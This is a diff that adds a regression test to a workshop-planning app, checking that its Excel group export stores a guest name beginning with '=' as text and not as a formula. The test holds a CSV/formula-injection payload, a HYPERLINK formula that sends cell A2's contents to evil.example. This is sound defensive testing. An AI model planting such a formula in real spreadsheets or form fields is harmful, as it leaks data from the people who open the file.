@@ -123,3 +123,20 @@ def test_api_lists_events_and_shows_the_published_plan(client, coordinator, even
     groups = [g for s in detail["published_plan"]["sessions"] for t in s["themes"] for g in t["groups"]]
     assert sum(len(g["members"]) for g in groups) == plan.assignments.filter(group__isnull=False).count()
     assert client.get("/api/v1/workshops/finnes-ikke").status_code == 404
+
+
+def test_group_lists_keep_a_formula_name_as_text(coordinator, event):
+    """A guest registered as =HYPERLINK(...) is listed as that text, not as a live formula."""
+    from samskap.workshops.exports import groups_xlsx
+    from samskap.workshops.models import Registration
+
+    payload = '=HYPERLINK("http://evil.example/?"&A2,"Klikk her")'
+    fill(event, 10)
+    first = Registration.objects.filter(event=event).order_by("pk").first()
+    Registration.objects.filter(pk=first.pk).update(name=payload)
+    plan = services.request_plan(coordinator.user, event)
+    assert plan.status == "done", plan.error
+    wb = openpyxl.load_workbook(io.BytesIO(groups_xlsx(plan)))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert any(c.value == payload for c in cells)
+    assert all(c.data_type != "f" for c in cells)
